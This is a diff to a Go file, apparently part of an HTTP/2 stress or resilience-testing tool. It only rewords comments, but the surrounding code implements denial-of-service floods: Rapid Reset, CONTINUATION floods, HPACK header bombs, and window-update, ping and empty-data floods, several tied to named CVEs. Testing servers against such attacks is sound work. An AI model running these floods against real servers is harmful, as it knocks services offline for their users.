@@ -9,7 +9,7 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// burstBytes is how much a flood writes at once.
+// burstBytes is how many bytes a flood writes at once.
 const burstBytes = 32 << 10
 
 // flood writes frames as fast as the server reads, until n are written or it is
@@ -38,7 +38,7 @@ func flood(ctx context.Context, o *offender, n int, next func(i int) []byte) int
 // stream is the id of the i-th stream of a client.
 func stream(i int) uint32 { return uint32(2*i + 1) }
 
-// runRapidReset opens streams and takes each back at once (CVE-2023-44487).
+// runRapidReset opens streams and resets each at once (CVE-2023-44487).
 func runRapidReset(ctx context.Context, o *offender, p Port, opt Options) int {
 	cancel := binary.BigEndian.AppendUint32(nil, uint32(http2.ErrCodeCancel))
 	return flood(ctx, o, opt.Frames, func(i int) []byte {
@@ -56,7 +56,7 @@ func runMadeYouReset(ctx context.Context, o *offender, p Port, opt Options) int 
 	})
 }
 
-// runContinuationFlood sends one header block without end (CVE-2023-45288):
+// runContinuationFlood sends one endless header block (CVE-2023-45288):
 // fields of 1 KiB that are never indexed.
 func runContinuationFlood(ctx context.Context, o *offender, p Port, opt Options) int {
 	o.openBlock(ctx)
@@ -71,7 +71,7 @@ func runContinuationFlood(ctx context.Context, o *offender, p Port, opt Options)
 	})
 }
 
-// runEmptyContinuationFlood sends one header block in pieces of nothing.
+// runEmptyContinuationFlood sends one header block in empty pieces.
 func runEmptyContinuationFlood(ctx context.Context, o *offender, p Port, opt Options) int {
 	o.openBlock(ctx)
 	head := frame(http2.FrameHeaders, 0, 1, o.block(p))
@@ -94,8 +94,8 @@ func runPingFlood(ctx context.Context, o *offender, _ Port, opt Options) int {
 	return flood(ctx, o, opt.Frames, func(int) []byte { return f })
 }
 
-// runWindowUpdateFlood widens the window of one stream byte by byte: it has room
-// for 2³⁰ of them.
+// runWindowUpdateFlood widens the window of one stream byte by byte, which is
+// possible 2³⁰ times.
 func runWindowUpdateFlood(ctx context.Context, o *offender, p Port, opt Options) int {
 	open := frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, o.block(p))
 	f := frame(http2.FrameWindowUpdate, 0, 1, []byte{0, 0, 0, 1})
@@ -107,7 +107,7 @@ func runWindowUpdateFlood(ctx context.Context, o *offender, p Port, opt Options)
 	})
 }
 
-// runEmptyDataFlood sends a body of nothing, over and over (CVE-2019-9518).
+// runEmptyDataFlood sends a body in empty frames without end (CVE-2019-9518).
 func runEmptyDataFlood(ctx context.Context, o *offender, p Port, opt Options) int {
 	open := frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, o.block(p))
 	f := frame(http2.FrameData, 0, 1, nil)
@@ -124,21 +124,21 @@ func runUnknownFrameFlood(ctx context.Context, o *offender, _ Port, opt Options)
 	return flood(ctx, o, opt.Frames, func(int) []byte { return f })
 }
 
-// runHeaderBomb opens streams that stay open, each with as large a header as the
-// server takes, in few bytes: one entry of the compression table, named over and
-// over (CVE-2016-6581).
+// runHeaderBomb opens streams that stay open, each with the largest header that the
+// server accepts, in few bytes: references to one entry of the compression table
+// (CVE-2016-6581).
 func runHeaderBomb(ctx context.Context, o *offender, p Port, opt Options) int {
 	return headerBomb(ctx, o, p, opt.Frames, "x-bomb")
 }
 
-// runBinaryHeaderBomb is runHeaderBomb with a name that makes gRPC decode, and so
-// copy, each value.
+// runBinaryHeaderBomb is runHeaderBomb with a name that makes gRPC decode, and
+// therefore copy, each value.
 func runBinaryHeaderBomb(ctx context.Context, o *offender, p Port, opt Options) int {
 	return headerBomb(ctx, o, p, opt.Frames, "x-bomb-bin")
 }
 
 func headerBomb(ctx context.Context, o *offender, p Port, streams int, name string) int {
-	// What fits the table of 4096 bytes, with 32 for the entry (RFC 7541, 4.1).
+	// What fits into the table of 4096 bytes, with 32 for the entry (RFC 7541, 4.1).
 	entry := hpack.HeaderField{Name: name, Value: string(bytes.Repeat([]byte{'A'}, 3800))}
 	const rest = 1 << 10 // for the usual fields
 	copies := max((o.headerLimit(ctx)-rest)/int(entry.Size()), 1)
@@ -151,8 +151,8 @@ func headerBomb(ctx context.Context, o *offender, p Port, streams int, name stri
 	})
 }
 
-// runUnreadBodyFlood opens streams and fills the window of each with the
-// beginning of a large message, which the server must keep.
+// runUnreadBodyFlood opens streams and fills the window of each with the beginning
+// of a large message, which the server must buffer.
 func runUnreadBodyFlood(ctx context.Context, o *offender, p Port, opt Options) int {
 	const window, piece = 60 << 10, 15 << 10 // RFC 9113, 6.9.2: 65,535 bytes at first; frames of 16 KiB
 	body := make([]byte, window)
@@ -172,7 +172,7 @@ func runUnreadBodyFlood(ctx context.Context, o *offender, p Port, opt Options) i
 func (o *offender) fields(f ...hpack.HeaderField) []byte {
 	o.hpackBuf.Reset()
 	for _, it := range f {
-		_ = o.hpack.WriteField(it) // a bytes.Buffer takes all
+		_ = o.hpack.WriteField(it) // a bytes.Buffer never fails
 	}
 	return bytes.Clone(o.hpackBuf.Bytes())
 }
